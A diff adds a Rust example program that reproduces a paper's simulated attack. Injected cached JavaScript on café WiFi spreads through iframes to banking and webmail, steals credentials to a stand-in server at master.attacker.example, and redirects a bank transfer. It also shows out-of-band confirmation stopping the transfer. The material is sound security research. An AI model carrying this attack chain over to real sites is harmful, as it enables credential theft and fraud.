@@ -1,0 +1,111 @@
+//! The paper's demo scenario: a visit to a well-known site on an insecure
+//! café WiFi leads to the infection of online banking and web mail — sites
+//! the victim never opened during the attack — followed by credential theft
+//! and a manipulated transfer once the victim is back home.
+//!
+//! Run with: `cargo run -p parasite --example wifi_cafe_attack`
+
+use mp_browser::browser::Browser;
+use mp_browser::dom::Dom;
+use mp_browser::profile::BrowserProfile;
+use mp_httpsim::body::ResourceKind;
+use mp_httpsim::transport::{Internet, StaticOrigin};
+use mp_httpsim::url::Url;
+use parasite::attacks;
+use parasite::cnc::CncServer;
+use parasite::master::Master;
+use parasite::propagation;
+
+fn web() -> Internet {
+    let mut net = Internet::new();
+    let mut news = StaticOrigin::new("news.example");
+    news.put_text(
+        "/",
+        ResourceKind::Html,
+        r#"<html><head><script src="/app.js"></script></head><body>headlines</body></html>"#,
+        "no-cache",
+    );
+    news.put_text("/app.js", ResourceKind::JavaScript, "function news(){}", "public, max-age=86400");
+    net.register_origin(news);
+
+    net.register("bank.example".to_string(), Box::new(mp_apps::banking::BankingApp::default()));
+    net.register("mail.example".to_string(), Box::new(mp_apps::webmail::WebMailApp::default()));
+    net
+}
+
+fn main() {
+    let mut master = Master::new("master.attacker.example");
+    master.add_target(Url::parse("http://news.example/app.js").expect("static url"));
+    let infector = master.infector();
+
+    // Café WiFi: the master infects everything it can see.
+    let mut hostile = master.injecting_exchange(web());
+    hostile.infect_all(true);
+    let mut browser = Browser::new(BrowserProfile::chrome(), Box::new(hostile));
+
+    println!("== phase 1: victim reads the news in the café ==");
+    let news = Url::parse("http://news.example/").expect("static url");
+    let load = browser.visit(&news);
+    println!("  parasite running on news.example: {}", load.page.scripts.iter().any(|s| infector.is_infected(&s.body)));
+
+    println!("\n== phase 2: the parasite iframes banking and web mail ==");
+    let mut dom = Dom::new(news.clone());
+    let targets = vec![
+        Url::parse("https://bank.example/login").expect("static url"),
+        Url::parse("https://mail.example/login").expect("static url"),
+    ];
+    // The bank and mail sites use HTTPS; on this network their deployments are
+    // strippable/broken, which is what makes the demo work.
+    let report = propagation::propagate_via_iframes(&mut browser, &mut dom, &targets, &infector);
+    println!("  domains now carrying parasites: {:?}", report.infected_domains);
+    println!("  domains that stayed clean:      {:?}", report.clean_domains);
+
+    println!("\n== phase 3: back home, the victim logs into the bank ==");
+    let mut bank = mp_apps::banking::BankingApp::default();
+    let (mut login_dom, form) = bank.login_dom();
+    let user = login_dom.by_name("username").expect("form field").id;
+    let pass = login_dom.by_name("password").expect("form field").id;
+    login_dom.set_attr(user, "value", "alice");
+    login_dom.set_attr(pass, "value", "correct-horse");
+    let submission = login_dom.submit_form(form).expect("form exists");
+    let session = bank.login(&submission).expect("credentials valid");
+
+    let mut cnc = CncServer::new("master.attacker.example");
+    let theft = attacks::steal_login_data(&login_dom, &mut cnc, "campaign-0");
+    println!("  credential theft succeeded: {} ({:?})", theft.succeeded, theft.evidence);
+
+    println!("\n== phase 4: the parasite manipulates a transfer behind the OTP ==");
+    let manipulation = attacks::manipulate_bank_transfer(
+        &mut bank,
+        &session,
+        "FR76 3000 6000 0112 3456 7890 189",
+        "GB29 ATTACKER 0000 0000 0000 00",
+        "480.00",
+    );
+    println!("  manipulation succeeded: {}", manipulation.succeeded);
+    for transfer in bank.executed_transfers() {
+        println!(
+            "  bank executed: {}.{:02} EUR -> {}",
+            transfer.amount_cents / 100,
+            transfer.amount_cents % 100,
+            transfer.beneficiary_iban
+        );
+    }
+
+    println!("\n== the same bank with out-of-band confirmation enabled ==");
+    let mut defended = mp_apps::banking::BankingApp::new("bank.example").with_out_of_band_confirmation();
+    let (mut dom2, form2) = defended.login_dom();
+    let user = dom2.by_name("username").expect("form field").id;
+    let pass = dom2.by_name("password").expect("form field").id;
+    dom2.set_attr(user, "value", "alice");
+    dom2.set_attr(pass, "value", "correct-horse");
+    let session2 = defended.login(&dom2.submit_form(form2).expect("form")).expect("valid");
+    let blocked = attacks::manipulate_bank_transfer(
+        &mut defended,
+        &session2,
+        "FR76 3000 6000 0112 3456 7890 189",
+        "GB29 ATTACKER 0000 0000 0000 00",
+        "480.00",
+    );
+    println!("  manipulation succeeded: {} (expected: false)", blocked.succeeded);
+}
